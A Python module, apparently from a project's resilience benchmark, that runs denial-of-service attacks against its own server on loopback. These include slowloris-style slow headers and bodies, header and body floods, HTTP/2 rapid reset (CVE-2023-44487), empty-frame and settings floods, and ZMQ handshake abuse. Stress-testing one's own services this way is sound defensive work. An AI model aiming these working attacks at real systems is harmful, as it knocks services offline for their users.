"""One attack with many connections: ``python -m bench.abuse.strangers``, with its order on standard input.

The order is JSON: ``attack`` (a key of :data:`ATTACKS`), ``port``, ``connections``, ``seconds``,
and ``token`` for the attack that has one. The process opens all connections, sends on each as much
as the server accepts, holds them until the time is over, and prints how many connections the server
left open and how many bytes it accepted. With ``until_closed`` the end of standard input also ends it.
"""

import asyncio
import json
import logging
import os
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from contextlib import asynccontextmanager, suppress
from typing import Any

_MAX_BYTES = 4 << 20
"""Max bytes that one connection sends before it is only held open."""
_PIECE = b"a" * (16 << 10)
_BODY_BYTES = (256 << 10) - 1
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE = 0, 1, 3, 4, 6, 8
_END_HEADERS, _ACK = 4, 1
_STREAMS = 100
_ZMQ_GREETING = b"\xff" + bytes(8) + b"\x7f\x03\x01"
_ZMQ_COMMAND, _ZMQ_MORE, _ZMQ_LONG = 4, 1, 2

Order = dict[str, Any]


class Connection:
    """One connection of the attack."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self._writer = writer
        self.num_bytes = 0

    async def send(self, data: bytes) -> None:
        """Sends data, waiting until the server takes it."""
        self._writer.write(data)
        await self._writer.drain()
        self.num_bytes += len(data)

    async def send_pieces(self, pieces: Iterator[bytes]) -> None:
        """Sends pieces until they end, the server closes, or enough was sent."""
        for piece in pieces:
            if self.num_bytes >= _MAX_BYTES:
                return
            await self.send(piece)

    async def hold(self) -> None:
        """Reads until the server closes."""
        while await self.reader.read(1 << 16):
            pass


def _repeat(piece: bytes) -> Iterator[bytes]:
    while True:
        yield piece


def _request(method: str, path: str, order: Order, *more: str) -> bytes:
    token = order.get("token", "slp_" + "x" * 43)
    lines = [
        f"{method} {path} HTTP/1.1",
        f"Host: 127.0.0.1:{order['port']}",
        f"Authorization: Bearer {token}",
        *more,
    ]
    return ("\r\n".join(lines) + "\r\n").encode()


async def header_of_many_bytes(connection: Connection, order: Order) -> None:
    await connection.send(_request("GET", "/v1/runs", order) + b"X-Long: ")
    await connection.send_pieces(_repeat(_PIECE))


async def many_headers(connection: Connection, order: Order) -> None:
    await connection.send(_request("GET", "/v1/runs", order))
    await connection.send_pieces(_repeat(b"a:b\r\n" * 3000))


async def long_line(connection: Connection, order: Order) -> None:
    await connection.send(b"GET /")
    await connection.send_pieces(_repeat(_PIECE))


async def headers_below_the_limit(connection: Connection, order: Order) -> None:
    """Sends headers that no limit per connection rejects, one byte short of the end."""
    await connection.send(_request("GET", "/v1/runs", order) + b"X-Long: " + b"a" * (63 << 10))
    await connection.hold()


async def slow_headers(connection: Connection, order: Order) -> None:
    await connection.send(_request("GET", "/v1/runs", order))
    while connection.num_bytes < _MAX_BYTES:
        await connection.send(b"X-Slow: " + b"a" * 4000 + b"\r\n")
        await asyncio.sleep(0.5)


async def requests_without_waiting(connection: Connection, order: Order) -> None:
    await connection.send_pieces(_repeat(_request("GET", "/v1/runs", order) * 80 + b"\r\n"))


async def bodies(connection: Connection, order: Order) -> None:
    await _body(connection, order, "/v1/runs")


async def bodies_of_the_sign_in(connection: Connection, order: Order) -> None:
    await _body(connection, order, "/page/sign-in")


async def _body(connection: Connection, order: Order, path: str) -> None:
    about = (f"Content-Length: {_BODY_BYTES + 1}", "Content-Type: application/json")
    await connection.send(_request("POST", path, order, *about) + b"\r\n" + b" " * _BODY_BYTES)


async def slow_bodies(connection: Connection, order: Order) -> None:
    about = ("Content-Length: 10000000000", "Content-Type: application/json")
    await connection.send(_request("POST", "/v1/runs", order, *about) + b"\r\n")
    while connection.num_bytes < _MAX_BYTES:
        await connection.send(b" " * 8000)
        await asyncio.sleep(0.5)


async def unread_answers(connection: Connection, order: Order) -> None:
    """Requests the largest public file and reads nothing of it."""
    await connection.send(_request("GET", "/docs/swagger-ui-bundle.js", order) + b"\r\n")
    await asyncio.Event().wait()


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return (
        struct.pack(">I", len(payload))[1:]
        + bytes((kind, flags))
        + struct.pack(">I", stream)
        + payload
    )


def _literal(name: bytes, value: bytes) -> bytes:
    """Returns a header field in HPACK's encoding without its tables (RFC 7541, 6.2.2)."""
    return b"\x00" + _length(name) + name + _length(value) + value


def _length(text: bytes) -> bytes:
    if len(text) < 127:
        return bytes((len(text),))
    rest, encoded = len(text) - 127, b"\x7f"
    while rest >= 128:
        encoded += bytes((rest % 128 + 128,))
        rest //= 128
    return encoded + bytes((rest,))


def _call(order: Order, metadata: bytes = b"") -> bytes:
    fields = {
        b":method": b"POST",
        b":scheme": b"http",
        b":path": order["method"].encode(),
        b":authority": b"localhost",
        b"content-type": b"application/grpc",
        b"te": b"trailers",
        b"authorization": b"Bearer slr_run_1." + b"x" * 43,
    }
    return b"".join(_literal(name, value) for name, value in fields.items()) + metadata


async def grpc_metadata(connection: Connection, order: Order) -> None:
    """Opens calls with as much metadata as a frame holds, on many streams, without a message."""
    metadata = _literal(b"x-long", b"a" * (7 << 10))
    await connection.send(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    for stream in range(1, 2 * _STREAMS, 2):
        await connection.send(_frame(_HEADERS, _END_HEADERS, stream, _call(order, metadata)))
    await connection.hold()


async def grpc_headers_without_end(connection: Connection, order: Order) -> None:
    """Sends continuation frames that never end a call's metadata."""
    await connection.send(
        _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, 0, 1, _call(order))
    )
    await connection.send_pieces(_repeat(_frame(9, 0, 1, _literal(b"x-long", b"a" * 4000))))


async def grpc_messages(connection: Connection, order: Order) -> None:
    """Sends messages as large as the windows allow, on many streams, one byte short of the end."""
    await connection.send(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    message = b"\x00" + struct.pack(">I", order["message_bytes"])
    windows = _Windows()
    reading = asyncio.create_task(windows.read(connection))  # noqa: TID251 -- awaited or cancelled below
    try:
        stream = 1
        while connection.num_bytes < _MAX_BYTES and not reading.done():
            call = _frame(_HEADERS, _END_HEADERS, stream, _call(order))
            await connection.send(call + _frame(_DATA, 0, stream, message))
            windows.open(stream, len(message))
            remaining = order["message_bytes"] - 1
            while remaining and (size := await windows.room(stream, remaining)):
                await connection.send(_frame(_DATA, 0, stream, b"a" * size))
                remaining -= size
            stream += 2
            if stream > 2 * _STREAMS:
                break
        await reading
    finally:
        reading.cancel()


async def grpc_settings(connection: Connection, order: Order) -> None:
    """Sends settings and pings that the server has to acknowledge, and reads no acknowledgement."""
    table = struct.pack(">HI", 1, 4096) + struct.pack(">HI", 1, 0)
    flood = _frame(_SETTINGS, 0, 0, table) + _frame(_PING, 0, 0, bytes(8))
    await connection.send(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    await connection.send_pieces(_repeat(flood * 300))


async def grpc_resets(connection: Connection, order: Order) -> None:
    """Opens calls and resets each of them at once (rapid reset, CVE-2023-44487)."""
    await connection.send(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
    stream = 1
    while connection.num_bytes < _MAX_BYTES:
        calls = b""
        for _ in range(50):
            calls += _frame(_HEADERS, _END_HEADERS, stream, _call(order))
            calls += _frame(_RST_STREAM, 0, stream, struct.pack(">I", 8))
            stream += 2
        await connection.send(calls)


async def grpc_empty_frames(connection: Connection, order: Order) -> None:
    """Sends empty data and window updates of one byte without end (CVE-2019-9518)."""
    await connection.send(
        _PREFACE + _frame(_SETTINGS, 0, 0, b"") + _frame(_HEADERS, _END_HEADERS, 1, _call(order))
    )
    flood = _frame(_DATA, 0, 1, b"") + _frame(_WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    await connection.send_pieces(_repeat(flood * 300))


class _Windows:
    """The server's flow-control windows of a connection (RFC 9113, 5.2)."""

    def __init__(self) -> None:
        self._whole = self._first = 65535
        self._streams: dict[int, int] = {}
        self._changed = asyncio.Event()

    def open(self, stream: int, num_bytes: int) -> None:
        self._streams[stream] = self._first - num_bytes
        self._whole -= num_bytes

    async def room(self, stream: int, num_bytes: int) -> int:
        """Waits up to a second for free window space; returns the bytes that may be sent, or 0."""
        with suppress(TimeoutError):
            async with asyncio.timeout(1.0):
                while min(self._whole, self._streams.get(stream, 0)) <= 0:
                    if stream not in self._streams:
                        return 0
                    self._changed.clear()
                    await self._changed.wait()
        size = max(0, min(self._whole, self._streams.get(stream, 0), num_bytes, 16 << 10))
        if stream in self._streams:
            self._streams[stream] -= size
        self._whole -= size
        return size

    async def read(self, connection: Connection) -> None:
        with suppress(asyncio.IncompleteReadError):
            while True:
                head = await connection.reader.readexactly(9)
                size, kind, flags = int.from_bytes(head[:3]), head[3], head[4]
                stream = int.from_bytes(head[5:]) & 0x7FFFFFFF
                payload = await connection.reader.readexactly(size)
                if kind == _WINDOW_UPDATE:
                    grown = int.from_bytes(payload)
                    if stream:
                        self._streams[stream] = self._streams.get(stream, 0) + grown
                    else:
                        self._whole += grown
                elif kind == _SETTINGS and not flags & _ACK:
                    self._learn(payload)
                    await connection.send(_frame(_SETTINGS, _ACK, 0, b""))
                elif kind == _PING and not flags & _ACK:
                    await connection.send(_frame(_PING, _ACK, 0, payload))
                elif kind == _RST_STREAM:
                    self._streams.pop(stream, None)
                self._changed.set()

    def _learn(self, payload: bytes) -> None:
        for at in range(0, len(payload), 6):
            name, value = struct.unpack_from(">HI", payload, at)
            if name == 4:
                self._streams = {
                    key: window + value - self._first for key, window in self._streams.items()
                }
                self._first = value


def _zmq_frame(flags: int, size: int) -> bytes:
    return bytes((flags | _ZMQ_LONG,)) + struct.pack(">Q", size)


async def _greet(connection: Connection, mechanism: bytes) -> None:
    await connection.send(_ZMQ_GREETING[:10] + b"\x03\x01" + mechanism.ljust(20, b"\0") + bytes(32))
    await connection.reader.readexactly(64)


async def zmq_handshake_frames(connection: Connection, order: Order) -> None:
    """Sends a handshake command of the max accepted size, one byte short of the end."""
    await _greet(connection, b"CURVE")
    for size in (order["frame_bytes"], 2 << 20, 64 << 10):
        await connection.send(_zmq_frame(_ZMQ_COMMAND, size))
        await connection.send_pieces(iter([_PIECE] * ((size - 1) // len(_PIECE))))
        break
    await connection.hold()


async def zmq_messages_without_end(connection: Connection, order: Order) -> None:
    """Sends a message with ever more frames, without a key."""
    await _greet(connection, b"NULL")
    ready = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    await connection.send(bytes((_ZMQ_COMMAND, len(ready))) + ready)
    piece = _zmq_frame(_ZMQ_MORE, len(_PIECE)) + _PIECE
    await connection.send_pieces(_repeat(piece))


async def silent(connection: Connection, order: Order) -> None:
    await connection.hold()


Attack = Callable[[Connection, Order], Awaitable[None]]
HTTP: tuple[Attack, ...] = (
    *(header_of_many_bytes, many_headers, long_line, headers_below_the_limit, slow_headers),
    *(requests_without_waiting, bodies, bodies_of_the_sign_in, slow_bodies, unread_answers, silent),
)
FLOODS: tuple[Attack, ...] = (grpc_settings, grpc_resets, grpc_empty_frames)
"""Attacks on the processor: they connect again as soon as the server ends a connection."""
GRPC: tuple[Attack, ...] = (
    *(grpc_metadata, grpc_headers_without_end, grpc_messages, silent),
    *FLOODS,
)
ZMQ: tuple[Attack, ...] = (zmq_handshake_frames, zmq_messages_without_end, silent)
ATTACKS = {attack.__name__: attack for attack in (*HTTP, *GRPC, *ZMQ)}


@asynccontextmanager
async def _connected(port: int, number: int) -> AsyncIterator[Connection]:
    # Loopback addresses stand for hosts, so a limit of connections per address does not help.
    reader, writer = await asyncio.open_connection(
        "127.0.0.1", port, local_addr=(f"127.0.{1 + number // 200}.{1 + number % 200}", 0)
    )
    try:
        yield Connection(reader, writer)
    finally:
        writer.transport.abort()


async def main() -> None:
    order: Order = json.loads(sys.stdin.readline())
    if not order.get("until_closed"):
        os.nice(19)  # an attacker on another machine takes no CPU time from the services
    attack = ATTACKS[order["attack"]]
    is_over = asyncio.Event()
    connections: list[Connection] = []
    num_open = 0

    async def one(number: int) -> None:
        nonlocal num_open
        is_first = True
        while is_first or attack in FLOODS:
            is_first = False
            with suppress(OSError, asyncio.IncompleteReadError):
                async with _connected(order["port"], number) as connection:
                    connections.append(connection)
                    await attack(connection, order)
                    await connection.hold()

    tasks = [asyncio.create_task(one(number)) for number in range(order["connections"])]  # noqa: TID251 -- awaited or cancelled below
    if order.get("until_closed"):
        asyncio.get_running_loop().add_reader(sys.stdin, is_over.set)
    with suppress(TimeoutError):
        async with asyncio.timeout(order["seconds"]):
            await is_over.wait()
    num_open = sum(not task.done() for task in tasks)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    num_bytes = sum(connection.num_bytes for connection in connections)
    print(json.dumps({"left_open": num_open, "taken_mib": round(num_bytes / 2**20, 1)}))


if __name__ == "__main__":
    logging.getLogger("asyncio").setLevel(logging.CRITICAL)  # servers should end connections
    asyncio.run(main())
